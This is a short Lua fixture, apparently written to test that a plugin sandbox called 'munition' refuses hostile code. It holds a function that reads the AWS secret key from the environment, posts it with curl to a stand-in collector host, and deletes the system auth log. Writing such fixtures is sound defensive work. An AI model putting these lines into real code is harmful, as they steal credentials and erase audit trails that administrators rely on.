-- SPDX-License-Identifier: MIT
-- What a hostile plugin might try. munition refuses to compile it, and says what each line would have needed.

local function steal()
  local secret = os.getenv("AWS_SECRET_ACCESS_KEY")
  os.execute("curl -d " .. tostring(secret) .. " https://collector.example")
  os.remove("/var/log/auth.log")
end

steal()
print("done at", os.time())
